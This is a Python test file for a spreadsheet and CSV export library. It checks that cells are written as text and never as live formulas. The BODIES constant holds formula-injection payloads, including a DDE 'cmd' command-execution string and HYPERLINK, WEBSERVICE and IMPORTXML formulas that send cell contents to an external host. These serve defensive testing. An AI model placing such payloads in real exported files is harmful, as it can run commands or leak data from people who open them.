"""What we write opens as text where we wrote text, and no cell is ever run as a formula."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date, datetime
from itertools import product

import pytest

from yimen.exchange import sheets, writing
from yimen.exchange.formulas import guarded, risky, unguarded
from yimen.exchange.writing import Table

BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://a.example/?"&A1,"点击")',
    'WEBSERVICE("http://a.example")',
    "SUM(A1:A9)",
    'IMPORTXML(CONCAT("http://a.example/",A1),"//a")',
)
STARTS = "=+-@|%＝＋－＠"
BEFORE = ("", " ", "\u3000", "\u200b", "\ufeff")
PAYLOADS = [before + start + body for before, start, body in product(BEFORE, STARTS, BODIES)]
PAYLOADS += [blank + body for blank in ("\t", "\r", "\n", "\t=") for body in BODIES]
HARMLESS = ("", "食品经营许可", "0012", "-12", "-0.5", "'早'", "a=b", "2023-05-31", "11511301008778175U", "备注：+1")


def test_there_are_at_least_two_hundred_payloads() -> None:
    assert len(set(PAYLOADS)) >= 200


def test_no_payload_is_left_bare_in_a_text_file() -> None:
    content = writing.delimited(Table("清单", ["=标题"], [[payload] for payload in PAYLOADS])).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content, newline="")))
    assert rows[0] == ["'=标题"]
    assert [row[0] for row in rows[1:]] == [f"'{payload}" for payload in PAYLOADS]


def test_no_payload_is_a_formula_in_a_workbook() -> None:
    content = writing.workbook([Table("清单", ["=标题"], [[payload] for payload in PAYLOADS])])
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
        styles = archive.read("xl/styles.xml").decode()
    assert "<f>" not in sheet and "<hyperlink" not in sheet
    cells = re.findall(r'<c r="A[0-9]+"[^>]*>', sheet)
    assert len(cells) == len(PAYLOADS) + 1
    assert all('t="inlineStr"' in cell or 't="s"' in cell for cell in cells)
    assert 'quotePrefix="1"' in styles


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_left_alone(text: str) -> None:
    assert not risky(text)
    assert guarded(text) == unguarded(text) == text


@pytest.mark.parametrize("name", ["清单.csv", "清单.xlsx"])
def test_what_we_wrote_we_read_back(name: str) -> None:
    payloads = [payload for payload in PAYLOADS if payload == payload.strip()]
    rows = [(text, "旁") for text in (*HARMLESS[1:], *payloads)]
    table = Table("退回的行", ["=说明", "备注"], rows)
    content = writing.delimited(table) if name.endswith("csv") else writing.workbook([table])
    [sheet] = sheets.read(name, content)
    assert sheet.headings == ("=说明", "备注")
    assert [row.cells for row in sheet.rows] == rows


def test_cells_keep_their_kind() -> None:
    row = ("999923199001011234", 20, -1.5, True, date(2023, 5, 31), datetime(2023, 5, 31, 9, 30), None, 10**18)
    table = Table("清单", [f"列{number}" for number in range(8)], [row])
    read = ("999923199001011234", "20", "-1.5", "是", "2023-05-31", "2023-05-31 09:30:00", "", "1000000000000000000")
    [book] = sheets.read("清单.xlsx", writing.workbook([table]))
    [text] = sheets.read("清单.csv", writing.delimited(table))
    assert book.rows[0].cells == text.rows[0].cells == read


def test_names_of_sheets_are_made_possible_and_different() -> None:
    names = ["县/区[2023]:清单?", "县/区[2023]:清单?", "长" * 40, "长" * 41, "", "'引'"]
    content = writing.workbook([Table(name, ["甲"], [["1"]]) for name in names])
    found = [sheet.name for sheet in sheets.read("清单.xlsx", content)]
    assert found == ["县·区·2023··清单·", "县·区·2023··清单·（2）", "长" * 31, "长" * 28 + "（2）", "表", "引"]


def test_a_cell_too_long_says_that_it_was_cut_and_an_empty_table_has_its_headings() -> None:
    content = writing.workbook([Table("长", ["甲"], [["长" * 40_000]]), Table("空", ["甲", "乙"], [])])
    first, last = sheets.read("清单.xlsx", content)
    assert len(first.rows[0].cells[0]) == 32_767 and first.rows[0].cells[0].endswith("以下略）")
    assert (last.headings, last.rows) == (("甲", "乙"), ())


def test_more_rows_than_a_sheet_holds_go_on_in_a_further_one(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(writing, "_ROWS_OF_A_SHEET", 2)
    found = sheets.read("清单.xlsx", writing.workbook([Table("清单", ["号"], [[n] for n in range(5)])]))
    assert [(sheet.name, [row.cells[0] for row in sheet.rows]) for sheet in found] == [
        ("清单", ["0", "1"]),
        ("清单（2）", ["2", "3"]),
        ("清单（3）", ["4"]),
    ]
